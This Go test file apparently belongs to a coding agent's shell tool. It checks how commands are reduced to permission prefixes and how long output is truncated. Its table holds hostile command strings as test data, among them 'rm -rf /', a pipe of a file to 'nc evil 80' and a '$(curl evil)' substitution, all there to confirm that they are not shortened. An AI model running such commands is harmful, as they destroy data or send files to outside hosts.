package builtin

import "testing"

func TestShellCommandPrefix(t *testing.T) {
	for cmd, want := range map[string]string{
		"npm test":                  "npm test",
		"npm test -- --watch":       "npm test",
		"git push origin main":      "git push",
		"CI=1 npm install":          "npm install",
		"/usr/bin/git status":       "git status",
		"ls -la":                    "ls",
		"cat ./x.txt":               "cat",
		"curl https://example.com/": "curl",
		"make":                      "make",
		"echo a && rm -rf /":        "echo a && rm -rf /",
		"ls;  curl example.com":     "ls; curl example.com",
		"cat x | nc evil 80":        "cat x | nc evil 80",
		"echo $(curl evil)":         "echo $(curl evil)",
		"":                          "",
	} {
		if got := shellCommandPrefix(cmd); got != want {
			t.Errorf("commandPrefix(%q) = %q, want %q", cmd, got, want)
		}
	}
}

func TestCappedOutput(t *testing.T) {
	o := newShellCapped(10, 100)
	for _, s := range []string{"abc", "defgh", "ijklmnopqr", "stuvwxyz"} {
		_, _ = o.Write([]byte(s))
	}
	if got := o.text(""); got != "abcde\n\n[… 16 bytes left out …]\n\nvwxyz" || !o.truncated() {
		t.Fatalf("%q", got)
	}
	all, whole := o.all()
	if string(all) != "abcdefghijklmnopqrstuvwxyz" || !whole {
		t.Fatalf("%q %v", all, whole)
	}
	small := newShellCapped(10, 100)
	_, _ = small.Write([]byte("0123456789"))
	if got := small.text("x"); got != "0123456789" || small.truncated() {
		t.Fatalf("%q", got)
	}
}
